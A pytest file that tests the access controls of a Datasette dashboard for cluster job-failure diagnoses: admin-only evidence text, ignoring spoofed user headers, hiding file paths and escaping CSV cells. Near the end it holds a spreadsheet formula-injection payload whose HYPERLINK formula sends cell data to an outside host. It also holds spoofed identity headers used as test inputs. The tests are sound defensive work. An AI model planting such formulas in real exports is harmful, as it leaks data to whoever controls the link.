"""The dashboard shows evidence lines to admins only, answers 405 to writes, shows no file
paths and reads a database its user may not write. Real Datasette: its own test client in this
process (actors, headers, POST) and `datasette --get` as an unprivileged user."""
import asyncio
import csv
import io
import json
import os
import re
import shutil
import sqlite3
import stat
import socket
import subprocess
import sys
import tempfile
import time
from datetime import datetime, timezone
from pathlib import Path
from urllib.parse import urlencode

import pytest

from sattrib.analysis import analyze_folder, load_rules
from sattrib.config import Settings
from sattrib.demo import write_demo
from sattrib.serve import HEADER_ENV, PROXY_ENV, dashboard_dir, datasette_argv, metadata
from sattrib.store import Store

LINE = "kernel: NVRM: Xid (PCI:0000:9d:00): 149"          # the demo's root evidence line


def _private(page: str) -> bool:
    """Is this page one of the evidence tables or queries (their rows and JSON included), which
    only those who may read evidence text get?"""
    from sattrib.serve import TEXT_QUERIES, TEXT_TABLES
    parts = page.split("?")[0].split("/")
    return len(parts) > 2 and parts[1] == "diagnoses" and \
        parts[2].split(".")[0] in TEXT_TABLES + TEXT_QUERIES


@pytest.fixture(scope="module")
def db(tmp_path_factory):
    d = tmp_path_factory.mktemp("dashpriv")
    path = d / "diagnoses.db"
    rules = load_rules()
    store = Store(path)
    # the demo job ends now, as `sattrib demo`'s does: in the home page's 7 days
    diag, _ = analyze_folder(write_demo(d / "demo", end=datetime.now(timezone.utc)), rules=rules)
    store.upsert(diag, "test", bundle_path=str(d / "demo"))
    store.sync_rules(rules)
    _incident_of(path, ["test/1001/0"])
    return path


def run(db, requests, monkeypatch=None, **settings):
    """Start Datasette in-process with the metadata and plugin `sattrib serve` uses and run
    `requests(ds, client)`."""
    from datasette.app import Datasette
    st = Settings(database=str(db), **settings)
    d = dashboard_dir()

    async def go():
        ds = Datasette(files=[str(db)], metadata=metadata(db, st),
                       template_dir=str(d / "templates"), plugins_dir=str(d / "plugins"),
                       settings={"sql_time_limit_ms": 1000})
        await ds.invoke_startup()
        return await requests(ds, ds.client)
    return asyncio.run(go())


def root_cookie(ds):
    return {"ds_actor": ds.sign({"a": {"id": "root"}}, "actor")}


def test_anonymous_visitors_see_diagnoses_but_no_evidence_text(db):
    """Every page the dashboard serves (found, not listed: _every_page), as an anonymous
    visitor: the evidence tables and queries are 403, every other page answers with no log
    line, no stored diagnosis JSON and no bundle path."""
    async def requests(ds, client):
        return {p: await client.get(p, follow_redirects=True) for p in await _every_page(ds)}
    pages = run(db, requests)
    assert len(pages) > 100
    assert {p.split("?")[0] for p in pages if _private(p)} >= {
        "/diagnoses/evidence.json", "/diagnoses/evidence_fts_data.json",
        "/diagnoses/diagnoses/test~2F1001~2F0", "/diagnoses/evidence/test~2F1001~2F0,e1.json",
        "/diagnoses/search_evidence.json"}
    for p, r in pages.items():
        if _private(p):
            assert r.status_code == 403, (p, r.status_code)
            continue
        assert r.status_code == 200, (p, r.status_code)
        assert LINE not in r.text and str(db.parent) not in r.text, p      # nor the bundle path
        if not p.startswith("/-/metadata"):               # where the columns are described
            assert "diagnosis_json" not in r.text, p
    page = pages["/diagnosis/test/1001/0"].text
    assert "Xid 149" in page and "node-02/journal.log:6" in page and "nvlink" in page
    assert "shown to the dashboard" in page and "admins only" in page
    assert "drain node-02" in pages["/-/summary.json"].text
    page = json.loads(pages["/diagnosis/test/1001/0.json"].text)
    assert page["evidence_text"] == "withheld" and "bundle_path" not in page
    assert page["diagnosis"]["evidence"] and not any(
        "text" in e for e in page["diagnosis"]["evidence"])
    assert page["diagnosis"]["root_cause"]["node"] == "node-02"


def test_admins_see_evidence_text(db):
    async def requests(ds, client):
        c = root_cookie(ds)
        return {p: (await client.get(p, cookies=c)) for p in (
            "/diagnosis/test/1001/0", "/diagnosis/test/1001/0.json",
            "/diagnoses/search_evidence.json?_shape=array&q=Xid+149",
            "/diagnoses/evidence.json?_shape=array",
            "/diagnoses/diagnoses/test~2F1001~2F0.json")}
    pages = run(db, requests)
    assert LINE in pages["/diagnosis/test/1001/0"].text
    assert str(db.parent / "demo") in pages["/diagnosis/test/1001/0"].text
    page = pages["/diagnosis/test/1001/0.json"].json()
    assert page["evidence_text"] == "shown" and page["bundle_path"] == str(db.parent / "demo")
    assert any(LINE in e["text"]
               for e in page["diagnosis"]["evidence"])
    assert any(LINE in r["text"] for r in
               pages["/diagnoses/search_evidence.json?_shape=array&q=Xid+149"].json())
    rows = pages["/diagnoses/evidence.json?_shape=array"].json()
    assert any(LINE in r["text"] for r in rows)
    assert pages["/diagnoses/diagnoses/test~2F1001~2F0.json"].status_code == 200


def test_sql_reaches_every_table_so_it_is_for_admins_only(db):
    sql = "/diagnoses.json?sql=select+text+from+evidence"

    async def requests(ds, client):
        return (await client.get(sql)).status_code, await client.get(sql, cookies=root_cookie(ds))
    anon, admin = run(db, requests, serve_allow_sql=True)
    assert anon == 403
    assert admin.status_code == 200 and any(LINE in r[0] for r in admin.json()["rows"])
    anon, admin = run(db, requests, serve_allow_sql=True, serve_evidence_text="none")
    assert anon == 403 and admin.status_code == 403


def test_the_user_header_is_believed_only_from_the_trusted_proxy(db, monkeypatch):
    """Datasette's test client connects as 127.0.0.1: the header counts only when the site names
    both the header and that address as its proxy's."""
    async def requests(ds, client):
        return [(await client.get("/diagnoses/evidence.json", headers={"X-Remote-User": u}))
                .status_code for u in ("alice", "mallory")]
    assert run(db, requests, serve_admins=["alice"]) == [403, 403]
    monkeypatch.setenv(HEADER_ENV, "X-Remote-User")
    assert run(db, requests, serve_admins=["alice"]) == [403, 403]        # no proxy named
    monkeypatch.setenv(PROXY_ENV, "10.0.0.9")
    assert run(db, requests, serve_admins=["alice"]) == [403, 403]        # another address
    monkeypatch.setenv(PROXY_ENV, "10.0.0.9,127.0.0.0/30")
    assert run(db, requests, serve_admins=["alice"]) == [200, 403]


def _get(port: int, path: str, source: str, headers: dict) -> int:
    import http.client
    conn = http.client.HTTPConnection("127.0.0.1", port, source_address=(source, 0), timeout=30)
    try:
        conn.request("GET", path, headers=headers)
        return conn.getresponse().status
    finally:
        conn.close()


def test_a_spoofed_user_header_from_a_client_that_is_not_the_proxy_is_ignored(db, tmp_path):
    """`sattrib serve` on every address, its proxy at 127.0.0.2. A client on 127.0.0.1 or
    127.0.0.3 that says it is root (and that the proxy forwarded it) is anonymous; only a
    request the proxy itself makes is root's."""
    from test_dashboard import _free_port
    port = _free_port()
    cfg = tmp_path / "sattrib.toml"
    cfg.write_text(f'serve_host = "0.0.0.0"\nserve_port = {port}\n'
                   'serve_trusted_user_header = "X-Remote-User"\n'
                   'serve_trusted_proxy = "127.0.0.2"\n')
    env = dict(os.environ, SATTRIB_CONFIG=str(cfg), SATTRIB_DATABASE=str(db))
    proc = subprocess.Popen([sys.executable, "-m", "sattrib", "serve"], env=env,
                            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    try:
        for _ in range(150):
            try:
                socket.create_connection(("127.0.0.1", port), timeout=0.2).close()
                break
            except OSError:
                time.sleep(0.1)
        path = "/diagnoses/evidence.json"
        root = {"X-Remote-User": "root"}
        assert _get(port, path, "127.0.0.1", dict(root, **{"X-Forwarded-For": "127.0.0.2"})) \
            == 403
        assert _get(port, path, "127.0.0.3", root) == 403
        assert _get(port, path, "127.0.0.2", {}) == 403
        assert _get(port, path, "127.0.0.2", root) == 200
    finally:
        proc.terminate()
        _, err = proc.communicate(timeout=20)
    assert "warning" not in err                  # it is behind a named proxy


@pytest.mark.parametrize("config,warned", [
    ({"serve_host": "0.0.0.0"}, ["listening on 0.0.0.0:8001, beyond this machine"]),
    ({"serve_host": "10.1.2.3", "serve_trusted_proxy": ["10.1.2.1"]}, []),
    ({"serve_host": "127.0.0.1"}, []),
    ({"serve_host": "::1", "serve_trusted_user_header": "X-Remote-User"},
     ["serve_trusted_user_header (X-Remote-User) is ignored"]),
])
def test_serve_warns_when_open_beyond_this_machine_without_a_proxy(db, tmp_path, config, warned):
    cfg = tmp_path / "sattrib.toml"
    cfg.write_text("".join(f"{k} = {json.dumps(v)}\n" for k, v in config.items()))
    r = subprocess.run([sys.executable, "-m", "sattrib", "serve", "--print-command"],
                       env=dict(os.environ, SATTRIB_CONFIG=str(cfg), SATTRIB_DATABASE=str(db)),
                       capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr
    lines = r.stderr.splitlines()
    assert len(lines) == len(warned)
    for line, want in zip(lines, warned):
        assert line.startswith("sattrib serve: warning: ") and want in line


def test_metadata_names_no_admins(db):
    async def requests(ds, client):
        return [await client.get(p) for p in ("/-/metadata.json", "/-/metadata")]
    for r in run(db, requests, serve_admins=["alice", "bob"], serve_allow_sql=True):
        assert r.status_code == 200
        assert "alice" not in r.text and "bob" not in r.text and '"allow' not in r.text
    js = run(db, requests, serve_admins=["alice"])[0].json()
    assert js["databases"]["diagnoses"]["queries"]["search_evidence"]["sql"]


def test_writes_answer_405(db):
    async def requests(ds, client):
        return [await client.post(p, data={"x": "1"}) for p in (
            "/diagnoses/recent_failures", "/diagnoses/evidence", "/diagnoses/-/query")]
    for r in run(db, requests):
        assert r.status_code == 405 and r.headers["allow"] == "GET, HEAD"


def test_no_file_paths_in_the_instance_pages(db):
    pages = ["/-/databases.json", "/-/databases", "/-/metadata.json", "/-/settings.json",
             "/-/plugins.json", "/-/versions.json", "/-/threads.json", "/.json",
             "/diagnoses.json"]

    async def requests(ds, client):
        return {p: await client.get(p) for p in pages}
    got = run(db, requests)
    for p, r in got.items():
        assert r.status_code == 200, p
        assert str(db) not in r.text and str(db.parent) not in r.text, p
    names = [d["name"] for d in got["/-/databases.json"].json()]
    assert names == ["diagnoses"] and "path" not in got["/-/databases.json"].json()[0]


@pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("setpriv"), reason="needs root")
def test_served_by_a_user_who_may_only_read_the_database(db):
    """The dashboard user reads the file but may not write it nor create its -shm: with no
    writer connected, and with one connected that has rows only in its WAL."""
    base = Path(tempfile.mkdtemp(prefix="sattrib-dash-", dir="/tmp"))
    try:
        os.chmod(base, 0o755)
        copy = base / "diagnoses.db"
        src = sqlite3.connect(db)
        dst = sqlite3.connect(copy)
        src.backup(dst)
        dst.execute("pragma journal_mode=wal")
        dst.close()
        src.close()
        os.chmod(copy, 0o644)
        assert not Path(f"{copy}-wal").exists()
        md = base / "metadata.json"
        st = Settings(database=str(copy))
        md.write_text(json.dumps(metadata(copy, st)))
        os.chmod(md, 0o644)
        argv = datasette_argv(st, copy, md)
        argv = argv[: argv.index("--host")] + argv[argv.index("--setting"):]

        def get(path):
            r = subprocess.run([shutil.which("setpriv"), "--reuid=65534", "--regid=65534",
                                "--clear-groups", *argv, "--get", path], capture_output=True,
                               text=True, timeout=120, cwd="/")
            assert r.returncode == 0, r.stdout[-400:] + r.stderr[-800:]
            return json.loads(r.stdout)
        q = "/diagnoses/recent_failures.json?_shape=array&days=3650"
        assert [r["job_id"] for r in get(q)] == ["1001"]
        writer = sqlite3.connect(copy)                     # a worker writing right now
        writer.execute("insert into diagnoses (id, cluster, job_id, restart, outcome, "
                       "created_at, ended_at) values ('test/1002/0', 'test', '1002', 0, "
                       "'unattributed', '2099-01-01T00:00:00Z', '2099-01-01T00:00:00Z')")
        writer.commit()
        assert stat.S_IMODE(os.stat(f"{copy}-shm").st_mode) == 0o644
        assert [r["job_id"] for r in get(q)] == ["1002", "1001"]
        writer.close()
    finally:
        shutil.rmtree(base, ignore_errors=True)


def test_the_service_runs_as_a_user_that_may_only_read():
    from helpers import ROOT
    unit = ROOT / "etc" / "sattrib-dashboard.service"
    keys = {}
    for ln in unit.read_text().splitlines():
        if "=" in ln and not ln.startswith("#"):
            k, _, v = ln.partition("=")
            keys.setdefault(k, []).append(v)
    assert keys["DynamicUser"] == ["yes"] and "User" not in keys        # not SlurmUser
    assert keys["SupplementaryGroups"] == ["slurm"] and "ReadWritePaths" not in keys
    assert keys["ReadOnlyPaths"] == ["/var/lib/sattrib"] and keys["ProtectSystem"] == ["strict"]
    if shutil.which("systemd-analyze"):
        r = subprocess.run(["systemd-analyze", "verify", str(unit)], capture_output=True,
                           text=True, timeout=60)
        problems = [ln for ln in (r.stdout + r.stderr).splitlines()
                    if ln.strip() and "/opt/sattrib/venv/bin/sattrib" not in ln]
        assert not problems, problems


@pytest.fixture(scope="module")
def metrics_db(tmp_path_factory):
    """A diagnosis made from metrics alone: an Xid 79 that only dcgm-exporter saw."""
    d = tmp_path_factory.mktemp("dashmetrics")
    folder = d / "job"
    (folder / "slurm").mkdir(parents=True)
    (folder / "slurm" / "job.txt").write_text(
        "JobId=2001 JobState=FAILED ExitCode=1:0\n   StartTime=2026-03-09T09:30:00 "
        "EndTime=2026-03-09T10:00:00\n   NodeList=gn-x\n")
    (folder / "gn-x").mkdir()
    t0 = 1773048600                                   # 2026-03-09T09:30:00Z
    values = [[t0 + 15 * i, "0" if i < 70 else "79"] for i in range(120)]
    (folder / "gn-x" / "metrics.json").write_text(json.dumps([{
        "query": 'DCGM_FI_DEV_XID_ERRORS{Hostname=~"(?:gn-x)(?::[0-9]+)?"}',
        "range": [t0, t0 + 1800, 15], "ui": "http://prom.example:9090",
        "result": [{"metric": {"Hostname": "gn-x", "gpu": "3",
                               "pci_bus_id": "00000000:9A:00.0"}, "values": values}]}]))
    path = d / "diagnoses.db"
    rules = load_rules()
    store = Store(path)
    diag, _ = analyze_folder(folder, rules=rules)
    assert diag.root_cause.category.value == "gpu_hardware"
    store.upsert(diag, "test", bundle_path=str(folder))
    store.sync_rules(rules)
    return path


def test_a_metrics_chart_and_graph_link_are_evidence_for_admins_only(metrics_db):
    async def requests(ds, client):
        out = {}
        for who, c in (("admin", root_cookie(ds)), ("anyone", None)):
            for p in ("/diagnosis/test/2001/0", "/diagnosis/test/2001/0.json"):
                out[who, p] = await client.get(p, cookies=c)
        return out
    pages = run(metrics_db, requests)
    admin = pages["admin", "/diagnosis/test/2001/0"].text
    assert 'DCGM_FI_DEV_XID_ERRORS gpu=3 pci_bus_id=00000000:9A:00.0' in admin
    assert "window start 0.0, end 79.0" in admin
    assert '<a class="graph" href="http://prom.example:9090/graph?g0.expr=DCGM_FI_DEV_XID' in admin
    assert '<svg class="metric-chart"' in admin and "<polyline" in admin
    assert '<line class="mark"' in admin                   # the Xid's time on the chart
    assert "<script" not in admin.split('class="metric-chart"')[1].split("</svg>")[0]
    ev = pages["admin", "/diagnosis/test/2001/0.json"].json()["diagnosis"]["evidence"]
    m = [e["metric"] for e in ev if e.get("metric")][0]
    assert m["series"] == "DCGM_FI_DEV_XID_ERRORS" and m["labels"]["gpu"] == "3"
    assert len(m["points"]) == 60 and m["points"][0][0] < 1773048600 + 70 * 15
    anyone = pages["anyone", "/diagnosis/test/2001/0"].text
    assert "Xid 79" in anyone or "gpu_hardware" in anyone
    for secret in ("DCGM_FI_DEV_XID_ERRORS{", "<svg class=\"metric-chart\"", "prom.example",
                   "polyline"):
        assert secret not in anyone, secret
    ev = pages["anyone", "/diagnosis/test/2001/0.json"].json()["diagnosis"]["evidence"]
    assert ev and not any("metric" in e or "text" in e for e in ev)


SECRET = "sk-live-SECRET123"


def _job(folder: Path, job_id: str, files: dict) -> Path:
    (folder / "slurm").mkdir(parents=True)
    (folder / "slurm" / "job.txt").write_text(
        f"JobId={job_id} JobName=train\n   UserId=alice(1000) GroupId=alice(1000)\n"
        "   JobState=FAILED Reason=NonZeroExitCode\n   Restarts=0 ExitCode=1:0\n"
        "   StartTime=2026-11-02T09:00:00 EndTime=2026-11-02T10:30:00\n"
        "   Partition=gpu\n   NodeList=node-[01-02]\n")
    for rel, text in files.items():
        (folder / rel).parent.mkdir(parents=True, exist_ok=True)
        (folder / rel).write_text(text + "\n")
    return folder


@pytest.fixture(scope="module")
def secret_db(tmp_path_factory):
    """The demo, a rank whose exception holds a secret, and two nodes whose kernels kill a
    process named by a secret in the same second (two candidates)."""
    d = tmp_path_factory.mktemp("dashsecret")
    path = d / "diagnoses.db"
    rules = load_rules()
    store = Store(path)
    kill = ("2026-11-02T10:00:00+0000 {n} kernel: Out of memory: Killed process 99 ({c}) "
            "total-vm:1kB, anon-rss:1kB")
    for folder in (write_demo(d / "demo"),
                   _job(d / "j1", "1002", {"node-02/rank-3.err":
                                           f"[rank3]: KeyError: 'api_token={SECRET}'"}),
                   _job(d / "j2", "1003", {
                       "node-01/journal.log": kill.format(n="node-01", c=SECRET),
                       "node-02/journal.log": kill.format(n="node-02", c=SECRET)})):
        diag, _ = analyze_folder(folder, rules=rules)
        store.upsert(diag, "test", bundle_path=str(folder))
    store.sync_rules(rules)
    _incident_of(path, ["test/1002/0", "test/1003/0"])
    return path


def _incident_of(path, dids) -> None:
    """An incident whose members are these diagnoses (their log lines hold the secret)."""
    con = sqlite3.connect(path)
    n = con.execute("INSERT INTO incidents (cluster, kind, element, element_nodes, "
                    "element_source, declared, category, action_code, window_s, opened_at, "
                    "first_failure_at, last_failure_at, jobs, nodes, failed_nodes, ran_on, "
                    "considered) VALUES ('test', 'leaf switch', 's1', 'node-[01-04]', "
                    "'topology.conf', 'SwitchName=s1 Nodes=node-[01-04]', 'network_ib', "
                    "'inspect_network_link', 300, '2026-11-02T10:01:00Z', "
                    "'2026-11-02T10:00:00Z', '2026-11-02T10:00:30Z', 2, 2, 'node-[01-02]', "
                    "'[]', '[]')").lastrowid
    con.executemany("INSERT INTO incident_jobs (incident_id, diagnosis_id, cluster, job_id, "
                    "restart, failed_at, nodes, category, outcome) SELECT ?, id, cluster, "
                    "job_id, restart, '2026-11-02T10:00:00Z', 'node-01', category, outcome "
                    "FROM diagnoses WHERE id = ?", [(n, d) for d in dids])
    con.commit()
    con.close()


async def _every_page(ds) -> list[str]:
    """Every page the dashboard serves for this database: Datasette's own, each table and view
    and canned query (HTML, JSON, CSV; a query's parameters filled in, a query about one node or
    GPU (`:_subject_node`) once for each the database names), a row of each table, and the
    plugin's pages for each diagnosis, job, node, GPU and incident it holds. Fails when a plugin
    route got no page."""
    from datasette.plugins import pm
    from datasette.utils import tilde_encode
    db = ds.get_database("diagnoses")
    pages = ["/", "/diagnoses", "/-/summary.json"] + [
        f"/-/{p}{ext}" for p in ("metadata", "databases", "settings", "plugins", "versions",
                                 "threads", "actor") for ext in ("", ".json")]
    names = await db.table_names() + await db.view_names()
    queries = await ds.get_canned_queries("diagnoses", None)
    rows = (await db.execute("select cluster, job_id, restart, culprit_node, gpu_serial, "
                             "gpu_uuid from diagnoses")).rows
    nodes = [r[0] for r in (await db.execute("select distinct node from job_nodes")).rows]
    named = {"node": nodes, "gpu": sorted({r[k] for r in rows for k in ("gpu_serial", "gpu_uuid")
                                           if r[k]})}
    filled = {"days": "3650", "q": "KeyError"}
    for name in names:
        pages += [f"/diagnoses/{tilde_encode(name)}{ext}" for ext in ("", ".json", ".csv")]
    hidden = set(await db.hidden_table_names())          # full-text indexes: no row pages
    for name in [n for n in await db.table_names() if n not in hidden]:   # a row, by its key
        keys = await db.primary_keys(name) or ["rowid"]
        row = (await db.execute(f"select {', '.join(f'[{k}]' for k in keys)} from [{name}] "
                                "limit 1")).first()
        if row:
            key = ",".join(tilde_encode(str(v)) for v in row)
            pages += [f"/diagnoses/{tilde_encode(name)}/{key}{ext}" for ext in ("", ".json")]
    for name, q in queries.items():
        params = set(q.get("params") or []) | set(re.findall(r":(?!_)(\w+)", q["sql"]))
        args = {p: filled.get(p, "") for p in sorted(params)}
        about = set(re.findall(r":_subject_(\w+)", q["sql"]))      # a page about one node or GPU
        assert about <= params and len(about) <= 1, name
        for value in named[min(about)] if about else [None]:
            args.update(dict.fromkeys(about, value))
            pages += [f"/diagnoses/{name}{ext}?{urlencode(args)}" for ext in ("", ".json", ".csv")]
        assert any(p.startswith(f"/diagnoses/{name}?") for p in pages), f"no page for {name}"
    for r in rows:
        pages += [f"/diagnosis/{r['cluster']}/{r['job_id']}/{r['restart']}{ext}"
                  for ext in ("", ".json")]
        pages += [f"/job{ext}?id={r['job_id']}" for ext in ("", ".json")]
        pages += [f"/gpu/{r['gpu_serial']}{ext}" for ext in ("", ".json") if r["gpu_serial"]]
    pages += [f"/node/{n}{ext}" for n in nodes for ext in ("", ".json")]
    incidents = [r[0] for r in (await db.execute("select id from incidents")).rows]
    pages += [f"/incidents{ext}?days=3650" for ext in ("", ".json")]
    pages += [f"/incident/{n}{ext}" for n in incidents for ext in ("", ".json")]
    routes = [rx for impl in pm.hook.register_routes(datasette=ds) for rx, _ in impl or []]
    for rx in routes:
        assert any(re.match(rx, p.split("?")[0]) for p in pages), \
            f"no page for the plugin's route {rx}"
    assert "search_evidence" in queries and "evidence_fts_data" in names
    return sorted(set(pages))


def test_no_page_shows_anyone_a_secret_from_a_log_line(secret_db):
    """Anonymous visitors get every page (or 403 for the evidence tables and queries); none
    holds the secret a program printed or the process name a kernel quoted. Admins see it in
    the evidence."""
    async def requests(ds, client):
        pages = await _every_page(ds)
        anon = {p: await client.get(p) for p in pages}
        admin = await client.get("/diagnoses/evidence.json?_shape=array", cookies=root_cookie(ds))
        return anon, admin
    anon, admin = run(secret_db, requests)
    assert len(anon) > 100
    for p, r in anon.items():
        assert r.status_code in ((403,) if _private(p) else (200, 302)), (p, r.status_code)
        assert SECRET not in r.text, p
    assert "rank 3 on node-02 raised KeyError" in anon["/diagnosis/test/1002/0"].text
    assert "Out of memory on node-01: killed process 99" in anon["/diagnoses/candidates.json"].text
    assert "/diagnosis/test/1002/0" in anon["/incident/1"].text     # its members, no line
    assert any(SECRET in row["text"] for row in admin.json())


FORMULA = '=HYPERLINK("http://example.org/?"&A1,"open")'


def test_csv_cells_never_start_a_formula(tmp_path):
    """Datasette writes CSV itself: a partition (and a job name) that reads as a formula comes
    out of every CSV with a ' before it; numbers and the HTML page stay as they are."""
    folder = _job(tmp_path / "j", "1004", {"node-02/rank-3.err": "[rank3]: KeyError: 'x'"})
    job = folder / "slurm" / "job.txt"
    job.write_text(job.read_text().replace("JobName=train", "JobName=@SUM(1+1)")
                   .replace("Partition=gpu", f"Partition={FORMULA}"))
    path = tmp_path / "d.db"
    diag, _ = analyze_folder(folder, rules=load_rules())
    assert diag.job.partition == FORMULA and diag.job.name == "@SUM(1+1)"
    Store(path).upsert(diag, "test", bundle_path=str(folder))

    async def requests(ds, client):
        return {p: await client.get(p) for p in (
            "/diagnoses/recent_failures.csv?days=3650", "/diagnoses/recent_failures.json?"
            "days=3650&_shape=array",
            "/diagnoses/diagnoses.csv?_col=job_name&_col=partition&_col=culprit_rank",
            "/diagnoses/recent_failures?days=3650")}
    got = run(path, requests, serve_evidence_text="all")
    csv_page = got["/diagnoses/recent_failures.csv?days=3650"]
    rows = list(csv.DictReader(io.StringIO(csv_page.text)))
    assert rows and rows[0]["partition"] == "'" + FORMULA
    assert int(csv_page.headers["content-length"]) == len(csv_page.content)
    rows = list(csv.DictReader(io.StringIO(
        got["/diagnoses/diagnoses.csv?_col=job_name&_col=partition&_col=culprit_rank"].text)))
    assert rows[0]["job_name"] == "'@SUM(1+1)" and rows[0]["culprit_rank"] == "3"
    assert got["/diagnoses/recent_failures.json?days=3650&_shape=array"].json()[0][
        "partition"] == FORMULA
    assert "&#39;=HYPERLINK" not in got["/diagnoses/recent_failures?days=3650"].text
